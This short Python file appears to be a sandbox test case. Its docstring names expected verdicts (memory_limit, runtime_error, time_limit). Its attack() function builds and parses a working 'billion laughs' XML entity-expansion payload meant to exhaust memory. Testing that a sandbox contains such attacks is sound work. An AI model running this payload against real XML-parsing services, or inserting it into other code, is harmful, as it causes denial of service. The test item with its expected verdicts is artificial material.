"""Parses a million laughs.

safe = "The box's memory is limited."
verdicts = ["memory_limit", "runtime_error", "time_limit"]
"""

import xml.etree.ElementTree


def attack(hints):
    lol = "".join(f'<!ENTITY l{n} "{"&l%d;" % (n - 1) * 10}">' for n in range(1, 12))
    xml.etree.ElementTree.fromstring(f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]><x>&l11;</x>')
    return
